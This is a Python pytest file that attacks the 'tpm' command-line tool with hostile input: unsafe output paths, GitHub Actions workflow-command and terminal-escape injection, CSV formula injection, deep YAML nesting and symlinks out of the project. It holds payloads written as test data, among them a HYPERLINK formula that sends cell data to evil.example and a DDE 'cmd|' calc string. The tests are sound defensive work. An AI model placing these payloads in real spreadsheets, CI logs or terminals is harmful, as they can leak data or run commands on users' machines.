"""Safety of inputs and outputs (docs/file-formats.md, "Safety limits"), attacked through the
real CLI: `python -m tpm` in a subprocess, as a hostile contributor to a tpm repository or a
careless command line would.

- output paths: only regular files are written (a device, a pipe, a socket, a symbolic link
  is a usage error and stays as it was), `-o -` is standard output, `-o DIR/` is refused;
- exit paths: Ctrl-C, a closed pipe, a full standard output, a full standard error.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import GOOD, make_project
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

# every test runs the CLI in subprocesses, like tests/test_hostile.py: `make check` skips them
pytestmark = pytest.mark.slow

TPM = (sys.executable, "-m", "tpm")
TIMEOUT = 120  # a guard against a hang, never a measure of speed


def env() -> dict[str, str]:
    values = {k: v for k, v in os.environ.items() if k != "TPM_DEBUG"}
    values.update(NO_COLOR="1", PYTHONIOENCODING="utf-8:strict", COLUMNS="120")
    return values


def tpm(root: Path, *args: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
    kwargs.setdefault("capture_output", True)
    return subprocess.run(  # type: ignore[call-overload,no-any-return]
        [*TPM, "-C", str(root), *args],
        cwd=root,
        env=env(),
        text=True,
        timeout=TIMEOUT,
        stdin=subprocess.DEVNULL,
        **kwargs,
    )


def one_error_line(run: subprocess.CompletedProcess[str], *parts: str) -> None:
    """Exit 2, and stderr is exactly one line `tpm: error: …` holding every part."""
    assert run.returncode == 2, (run.returncode, run.stderr)
    lines = run.stderr.splitlines()
    assert len(lines) == 1, run.stderr
    assert lines[0].startswith("tpm: error: "), lines
    for part in parts:
        assert part in lines[0], (part, lines[0])


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path, GOOD)


# -- output paths --------------------------------------------------------------------------------


def _fifo(path: Path) -> str:
    os.mkfifo(path)
    return "a pipe"


def _socket(path: Path) -> str:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.close()
    return "a socket"


def _device(path: Path) -> str:
    # a private /dev/null: a character device made in the temporary directory
    if not hasattr(os, "mknod") or os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except OSError as exc:
        pytest.skip(f"cannot make a device node here: {exc}")
    return "a device"


def _dangling(path: Path) -> str:
    path.symlink_to(path.parent / "nowhere.json")
    return "a symbolic link"


def _link_outside(path: Path) -> str:
    outside = path.parent / "outside"
    outside.mkdir()
    (outside / "config.json").write_text("precious\n")
    path.symlink_to(outside / "config.json")
    return "a symbolic link"


KINDS = {
    "fifo": _fifo,
    "socket": _socket,
    "device": _device,
    "dangling-symlink": _dangling,
    "symlink-outside": _link_outside,
}
COMMANDS = {
    "audit-sarif": ["audit", "--format", "sarif", "-o"],
    "validate-json": ["validate", "--format", "json", "--output"],
    "score-csv": ["score", "--format", "csv", "-o"],
    "report": ["report", "--as-of", "2026-11-20", "-o"],
    "diagram-dot": ["diagram", "org", "--format", "dot", "-o"],
}


def _state(path: Path) -> tuple[int, str | None, bytes | None]:
    """What is at `path`: its type and, for links and files, what they hold."""
    st = os.lstat(path)
    link = os.readlink(path) if stat.S_ISLNK(st.st_mode) else None
    data = None
    if link is not None and os.path.exists(path):
        data = Path(path).read_bytes()
    return stat.S_IFMT(st.st_mode), link, data


@pytest.mark.parametrize("kind", list(KINDS))
@pytest.mark.parametrize("command", list(COMMANDS))
def test_output_that_is_not_a_regular_file_is_a_usage_error(
    project: Path, tmp_path: Path, kind: str, command: str
) -> None:
    target = tmp_path / f"target-{kind}"
    what = KINDS[kind](target)
    before = _state(target)
    run = tpm(project, *COMMANDS[command], str(target))
    one_error_line(run, str(target), what, "regular files")
    assert _state(target) == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    assert run.stdout == ""


def test_output_that_is_a_directory_is_a_usage_error(project: Path, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    run = tpm(project, "report", "-o", str(tmp_path / "out"))
    one_error_line(run, "a directory")
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize("spelling", ["-o", "--output", "--output="])
def test_output_ending_in_a_slash_is_a_usage_error(
    project: Path, tmp_path: Path, spelling: str
) -> None:
    where = f"{tmp_path}/newdir/"
    args = [spelling + where] if spelling.endswith("=") else [spelling, where]
    run = tpm(project, "audit", "--format", "json", *args)
    one_error_line(run, "newdir/", "names a directory")
    assert not (tmp_path / "newdir").exists()


def test_output_into_a_directory_still_works_where_a_directory_is_meant(
    project: Path, tmp_path: Path
) -> None:
    run = tpm(project, "schema", "--output", f"{tmp_path}/schemas/")
    assert run.returncode == 0, run.stderr
    assert sorted(p.suffix for p in (tmp_path / "schemas").iterdir()) == [".json"] * 4
    run = tpm(project, "diagram", "journey", "--all", "-f", "mermaid", "-o", f"{tmp_path}/maps/")
    assert run.returncode == 0, run.stderr
    assert sorted(p.name for p in (tmp_path / "maps").iterdir()) == ["idea.mmd", "outage.mmd"]


def test_missing_parents_are_created_and_the_wrote_line_names_the_file(
    project: Path, tmp_path: Path
) -> None:
    target = tmp_path / "a" / "b" / "report.html"
    run = tpm(project, "report", "-o", str(target))
    assert run.returncode == 0, run.stderr
    assert run.stderr.splitlines()[-1] == f"wrote {target.as_posix()}"
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_output_dash_is_standard_output(project: Path, tmp_path: Path) -> None:
    run = tpm(project, "audit", "--format", "json", "-o", "-")
    assert run.returncode in (0, 1), run.stderr
    assert json.loads(run.stdout)["findings"]
    assert not (project.parent / "-").exists() and not (project / "-").exists()
    run = tpm(project, "report", "-o", "-")
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("<!DOCTYPE html>")
    assert "wrote" not in run.stderr
    assert not (project.parent / "-").exists()


def test_a_regular_file_is_still_replaced(project: Path, tmp_path: Path) -> None:
    target = tmp_path / "old.json"
    target.write_text("old\n")
    run = tpm(project, "validate", "--format", "json", "-o", str(target))
    assert run.returncode == 0, run.stderr
    assert target.read_text().startswith("{")


# -- exit paths ----------------------------------------------------------------------------------


def many_touchpoints(tmp_path: Path, n: int = 1500) -> Path:
    """A project whose list of touchpoints is far larger than a pipe's buffer."""
    lines = ["touchpoints:"]
    for i in range(n):
        lines += [
            f"  - id: talk-{i}",
            f"    name: A long enough name for touchpoint number {i}",
            "    from: service",
            "    to: sales",
            "    cadence: weekly",
            "    owner: sam",
        ]
    files = dict(GOOD)
    files["touchpoints/many.yaml"] = "\n".join(lines) + "\n"
    return make_project(tmp_path, files, name="many")


def test_ctrl_c_is_one_line_and_exit_130(tmp_path: Path) -> None:
    root = many_touchpoints(tmp_path)
    # stdout is a pipe nobody reads: tpm is blocked writing the table when Ctrl-C comes
    child = subprocess.Popen(
        [*TPM, "-C", str(root), "list", "touchpoints", "--format", "json"],
        env=env(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert child.stdout is not None and child.stderr is not None
    assert child.stdout.read(1) == b"["  # it is writing
    child.send_signal(signal.SIGINT)
    child.stdout.close()  # the rest of the output is not wanted
    err = child.stderr.read().decode()
    assert child.wait(timeout=TIMEOUT) == 130
    assert err == "tpm: error: interrupted\n"


def test_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    root = many_touchpoints(tmp_path)
    child = subprocess.Popen(
        [*TPM, "-C", str(root), "list", "touchpoints"],
        env=env(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert child.stdout is not None and child.stderr is not None
    first = child.stdout.readline()  # `tpm list touchpoints | head -1`
    assert first.decode().startswith("Touchpoints of Test AG")
    child.stdout.close()
    err = child.stderr.read().decode()
    assert child.wait(timeout=TIMEOUT) == 0
    assert err == ""


def _full() -> Path:
    full = Path("/dev/full")
    if not full.exists():
        pytest.skip("no /dev/full here")
    return full


def test_a_full_standard_output_is_one_line_and_exit_2(project: Path) -> None:
    with _full().open("w") as full:
        run = tpm(project, "audit", stdout=full, stderr=subprocess.PIPE, capture_output=False)
    one_error_line(run, "cannot write to standard output", "No space left on device")


def test_a_full_standard_error_does_not_fail_a_successful_run(
    project: Path, tmp_path: Path
) -> None:
    target = tmp_path / "report.html"
    with _full().open("w") as full:
        run = tpm(
            project,
            "report",
            "-o",
            str(target),
            stdout=subprocess.PIPE,
            stderr=full,
            capture_output=False,
        )
    assert run.returncode == 0
    assert target.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


# -- user text in human output: CI logs and terminals --------------------------------------------

# What GitHub Actions reads as a workflow command, and what a terminal or a CI log viewer runs:
# a raw C0 or C1 control character (ESC starts colours, cursor moves, OSC 8 links and window
# titles), DEL, or a Unicode line or paragraph separator.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")


def assert_safe(text: str, label: str) -> None:
    for line in text.split("\n"):
        assert not line.lstrip(" \t").startswith("::"), (label, line)
    found = RAW_CONTROL.search(text)
    assert found is None, (label, repr(found.group(0)), text[max(0, found.start() - 80) :][:200])


INJECTED = "Gone\n::error file=tpm.yaml,line=1,title=Injected::x\n::stop-commands::abc123"
BAD_FILE = "x\n::warning file=README.md,line=1::injected\n.yaml"
ESCAPES = "Board \x1b[2J \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07"


def yaml_quoted(text: str) -> str:
    """`text` as a YAML double-quoted scalar: what YAML cannot hold raw is written as an escape."""
    out = []
    for char in text:
        code = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif code < 0x20 or 0x7F <= code <= 0x9F or code in (0x2028, 0x2029, 0xFEFF):
            out.append(f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def hostile_text_project(tmp_path: Path, text: str, file_text: str, name: str = "hostile") -> Path:
    """GOOD with `text` as the organisation, a unit's, a person's and a touchpoint's name, an
    unknown owner, and a touchpoint file named after `file_text`."""
    quoted = yaml_quoted(text)
    config = GOOD["tpm.yaml"].replace("organisation: Test AG", f"organisation: {quoted}")
    config = config.replace("name: Board", f"name: {quoted}").replace(
        "name: Kim Weber", f"name: {quoted}"
    )
    touchpoints = GOOD["touchpoints/main.yaml"].replace("name: All-hands", f"name: {quoted}")
    files = {**GOOD, "tpm.yaml": config, "touchpoints/main.yaml": touchpoints}
    files[f"touchpoints/{file_text}.yaml"] = (
        f"touchpoints:\n  - id: odd\n    name: {quoted}\n    from: board\n    to: sales\n"
        f"    owner: {quoted}\n"
    )
    return make_project(tmp_path, files, name=name)


HUMAN_COMMANDS = [
    ["validate"],
    ["audit", "--as-of", "2026-11-20"],
    ["audit", "--format", "markdown", "--as-of", "2026-11-20"],
    ["list", "units"],
    ["list", "people"],
    ["list", "touchpoints"],
    ["show", "kim"],
    ["show", "odd"],
    ["score", "--as-of", "2026-11-20"],
    ["score", "--explain", "odd", "--as-of", "2026-11-20"],
]


@pytest.mark.parametrize("command", HUMAN_COMMANDS, ids=" ".join)
def test_ci_workflow_commands_and_terminal_escapes_in_user_text_are_disarmed(
    tmp_path: Path, command: list[str]
) -> None:
    root = hostile_text_project(tmp_path, f"{INJECTED} {ESCAPES}", BAD_FILE)
    run = tpm(root, *command)
    assert run.returncode in (0, 1), run.stderr
    assert "Traceback" not in run.stderr and "internal error" not in run.stderr
    for label, text in (("stdout", run.stdout), ("stderr", run.stderr)):
        assert_safe(text, f"{command} {label}")
    # the text is still there, shown escaped
    both = run.stdout + run.stderr
    assert "Gone\\n::error file=tpm.yaml" in both or "Gone<br>::error" in both, both[:3000]


def test_the_github_format_escapes_terminal_codes_too(tmp_path: Path) -> None:
    root = hostile_text_project(tmp_path, f"{INJECTED} {ESCAPES}", BAD_FILE)
    run = tpm(root, "audit", "--format", "github", "--as-of", "2026-11-20")
    assert run.returncode == 1, run.stderr
    assert RAW_CONTROL.search(run.stdout) is None
    commands = [line.split(" ", 1)[0] for line in run.stdout.splitlines()]
    assert set(commands) <= {"::error", "::warning", "::notice"}
    assert "Gone%0A::error file=tpm.yaml" in run.stdout
    assert "Board \\x1b[2J" in run.stdout


# -- the property: whatever the text, human output stays inert ------------------------------------

_PIECES = st.sampled_from(
    [
        "::",
        "%",
        "\r",
        "\n",
        "\x1b",
        "\x1b[31m",
        "\x1b]0;t\x07",
        "\x85",
        "\x9b",
        "\u2028",
        "\u2029",
        "\t",
        "\x00",
        "\x7f",
        "error",
        " ",
        "::error::",
        "%0A",
        "\\N",
        ",",
        "=",
    ]
)
_TEXT = st.lists(_PIECES | st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(parts=_TEXT, file_parts=_TEXT)
def test_property_no_human_output_line_starts_a_workflow_command(
    run_cli: Callable[..., Any], parts: list[str], file_parts: list[str]
) -> None:
    text = "".join(parts) or "::"
    file_text = "".join(file_parts).replace("/", "").replace("\x00", "").lstrip(".")[:60] or "::"
    with tempfile.TemporaryDirectory() as tmp:
        root = hostile_text_project(Path(tmp), text, file_text)
        for command in HUMAN_COMMANDS:
            result = run_cli(["-C", str(root), *command])
            assert result.code in (0, 1), (command, result.err)
            assert "internal error" not in result.err, result.err
            assert_safe(result.out, f"{command} stdout")
            assert_safe(result.err, f"{command} stderr")


# -- spreadsheets --------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Board")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "\tTabbed",
]


def test_csv_cells_that_start_like_a_formula_are_quoted(tmp_path: Path) -> None:
    config = GOOD["tpm.yaml"] + (
        "scoring:\n  dimensions:\n"
        '    "=1+1": {weight: 1}\n'
        '    "@x": {weight: 1}\n'
        "    clarity: {weight: 1}\n"
    )
    touchpoints = GOOD["touchpoints/main.yaml"]
    names = ["All-hands", "Daily huddle", "Best-practice slot"]
    for old, formula in zip(names, FORMULAS[:3], strict=True):
        touchpoints = touchpoints.replace(f"name: {old}", f"name: {yaml_quoted(formula)}")
    touchpoints = touchpoints.replace(
        "    owner: anna\n",
        "    owner: anna\n    ratings:\n      - date: 2026-11-01\n        n: 9\n"
        '        scores: {"=1+1": 4.5, "@x": 2, clarity: 1}\n',
        1,
    )
    root = make_project(
        tmp_path, {**GOOD, "tpm.yaml": config, "touchpoints/main.yaml": touchpoints}
    )
    run = tpm(root, "score", "touchpoints", "--format", "csv", "--as-of", "2026-11-20")
    assert run.returncode == 0, run.stderr
    rows = list(csv.reader(io.StringIO(run.stdout)))
    header = rows[0]
    assert header[-3:] == ["'=1+1", "'@x", "clarity"]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["all-hands"] == "'" + FORMULAS[0]
    assert names["huddle"] == "'" + FORMULAS[1]
    assert names["board-slot"] == "'" + FORMULAS[2]
    scored = next(row for row in rows[1:] if row[0] == "all-hands")
    # numbers stay numbers: the dimension means on 1-5 as 0-100 ((m - 1) / 4 * 100)
    assert [float(v) for v in scored[-3:]] == [87.5, 25.0, 0.0]
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so


# -- depth through aliases, the pure-Python parser, lone surrogates ------------------------------

HOSTILE = Path(__file__).resolve().parent / "hostile"
ALIAS_DEPTH = HOSTILE / "touchpoints" / "alias-depth-1020.yaml"


def test_nesting_through_aliases_is_a_finding_for_every_command(tmp_path: Path) -> None:
    root = make_project(tmp_path, GOOD)
    (root / "touchpoints" / "deep.yaml").write_bytes(ALIAS_DEPTH.read_bytes())
    lines = ALIAS_DEPTH.read_text().splitlines()
    line = next(i for i, text in enumerate(lines, 1) if "#! TPM001" in text)
    column = lines[line - 1].index("[" * 60) + 60  # the innermost list holding `*a0`
    expected = f"touchpoints/deep.yaml:{line}:{column}: error TPM001 nesting deeper than 64"
    for command in (
        ["validate"],
        ["audit", "--as-of", "2026-11-20"],
        ["list", "touchpoints"],
        ["show", "all-hands"],
        ["score", "--as-of", "2026-11-20"],
        ["report", "-o", str(tmp_path / "report.html")],
        ["diagram", "org", "--format", "mermaid"],
    ):
        run = tpm(root, *command)
        assert run.returncode in (0, 1), (command, run.stderr)
        assert "internal error" not in run.stderr and "Traceback" not in run.stderr
        if command[0] != "show":  # show prints the item's findings only
            assert expected in run.stdout + run.stderr, (command, run.stdout, run.stderr)


@pytest.fixture
def pure_python_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    """PyYAML without libyaml: its own (recursive) composer."""
    from tpm import yamlsource

    monkeypatch.setattr(yamlsource, "_Loader", yamlsource._PureLoader)


SURROGATE = 'touchpoints:\n  - id: odd\n    name: "A\\uD800B"\n    from: board\n    to: sales\n'


@pytest.mark.parametrize("parser", ["libyaml", "python"])
def test_deep_flow_nesting_and_a_lone_surrogate_are_findings(
    tmp_path: Path, run_cli: Callable[..., Any], request: pytest.FixtureRequest, parser: str
) -> None:
    if parser == "python":
        request.getfixturevalue("pure_python_parser")
    files = {
        **GOOD,
        "touchpoints/brackets.yaml": "touchpoints: " + "[" * 1000 + "]" * 1000 + "\n",
        "touchpoints/surrogate.yaml": SURROGATE,
    }
    root = make_project(tmp_path, files)
    for command in (["validate"], ["list", "touchpoints"], ["show", "all-hands"], ["score"]):
        result = run_cli(["-C", str(root), *command])
        assert result.code in (0, 1), (command, result.err)
        assert "internal error" not in result.err
        shown = result.out + result.err
        assert "\ud800" not in shown  # no output could encode it
        if command[0] == "show":  # show prints the item's findings only
            continue
        assert "touchpoints/brackets.yaml:1:" in shown and "error TPM001" in shown, shown
        # either parser refuses the escape, at the line of the scalar
        assert "touchpoints/surrogate.yaml:3:" in shown, shown
        assert "odd" not in result.out  # the file is not read


# -- links leading outside the project ------------------------------------------------------------


def test_links_outside_the_project_are_not_read(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "more").mkdir(parents=True)
    (outside / "config.json").write_text('{"token": "ghp_SECRET", "name": "x"}\n')
    (outside / "more" / "t.yaml").write_text(
        "touchpoints:\n  - id: ghp_SECRET2\n    name: ghp_SECRET2\n"
    )
    (outside / "r.csv").write_text("touchpoint,dimension,score,date,unit,respondent\n")
    root = make_project(tmp_path, GOOD)
    (root / "touchpoints" / "creds.yaml").symlink_to("../../outside/config.json")
    (root / "journeys" / "more").symlink_to(outside / "more")
    (root / "responses").mkdir()
    (root / "responses" / "r.csv").symlink_to(outside / "r.csv")
    (root / "touchpoints" / "inside.yaml").symlink_to("main.yaml")  # inside: still read
    expected = [
        "journeys/more:1:1: error TPM001 the folder links outside the project",
        "responses/r.csv:1:1: error TPM001 the file links outside the project",
        "touchpoints/creds.yaml:1:1: error TPM001 the file links outside the project",
    ]
    for command in (["validate"], ["audit", "--as-of", "2026-11-20"], ["score"]):
        run = tpm(root, *command)
        assert run.returncode in (0, 1), run.stderr
        shown = run.stdout + run.stderr
        assert "ghp_SECRET" not in shown
        for line in expected:
            assert line in shown, (command, shown)
    # the link inside the project is read: its touchpoints are defined twice
    assert "touchpoints/inside.yaml" in tpm(root, "validate").stdout


def test_a_folder_linked_to_the_root_of_the_machine_is_not_walked(tmp_path: Path) -> None:
    root = make_project(tmp_path, {"tpm.yaml": GOOD["tpm.yaml"]})
    (root / "touchpoints").symlink_to("/")
    run = tpm(root, "validate")
    assert run.returncode == 1
    assert run.stdout.startswith(
        "touchpoints:1:1: error TPM001 the folder links outside the project (to /)"
    )
    assert "Found 1 error in 1 file." in run.stdout


# -- numbers -----------------------------------------------------------------------------------


def test_a_scale_that_would_make_nan_is_refused_and_json_stays_json(tmp_path: Path) -> None:
    config = GOOD["tpm.yaml"] + "scoring:\n  min_responses: 1\n  scale: [-1.7e308, 1.7e308]\n"
    touchpoints = GOOD["touchpoints/main.yaml"].replace(
        "    owner: anna\n",
        "    owner: anna\n    ratings:\n      - date: 2026-11-01\n        n: 9\n"
        "        scores: {clarity: 1.7e308, appreciation: -1.7e308}\n",
        1,
    )
    root = make_project(
        tmp_path, {**GOOD, "tpm.yaml": config, "touchpoints/main.yaml": touchpoints}
    )
    line = config.splitlines().index("  scale: [-1.7e308, 1.7e308]") + 1
    run = tpm(root, "validate")
    assert f"tpm.yaml:{line}:11: error TPM002 scale -1.7e+308 is out of range" in run.stdout
    assert f"tpm.yaml:{line}:21: error TPM002 scale 1.7e+308 is out of range" in run.stdout
    run = tpm(root, "score", "--format", "json", "--as-of", "2026-11-20")
    assert run.returncode == 0, run.stderr

    def no_constant(name: str) -> None:
        raise AssertionError(f"the json holds {name}")

    json.loads(run.stdout, parse_constant=no_constant)
    table = tpm(root, "score", "--as-of", "2026-11-20").stdout
    assert not re.search(r"\b(nan|inf)\b", table, re.IGNORECASE), table


# -- diagrams ----------------------------------------------------------------------------------

DOT_NAME = r"Talk \N \G &#60;b&#62;"
DOT_UNIT = r"Board \T \H \E \L"


@pytest.mark.skipif(shutil.which("dot") is None, reason="needs Graphviz dot")
def test_graphviz_shows_backslash_sequences_and_entities_literally(tmp_path: Path) -> None:
    import xml.etree.ElementTree as ET

    config = GOOD["tpm.yaml"].replace("name: Board", f"name: {yaml_quoted(DOT_UNIT)}")
    touchpoints = GOOD["touchpoints/main.yaml"].replace(
        "name: All-hands", f"name: {yaml_quoted(DOT_NAME)}"
    )
    root = make_project(
        tmp_path, {**GOOD, "tpm.yaml": config, "touchpoints/main.yaml": touchpoints}
    )
    target = tmp_path / "org.svg"
    run = tpm(root, "diagram", "org", "-o", str(target))
    assert run.returncode == 0, run.stderr
    svg = ET.parse(target).getroot()
    texts = " ".join("".join(e.itertext()) for e in svg.iter("{http://www.w3.org/2000/svg}text"))
    titles = " ".join(
        e.get("{http://www.w3.org/1999/xlink}title", "")
        for e in svg.iter("{http://www.w3.org/2000/svg}a")
    )
    for shown in (texts, titles):
        assert DOT_NAME in shown, shown
        assert DOT_UNIT in shown, shown
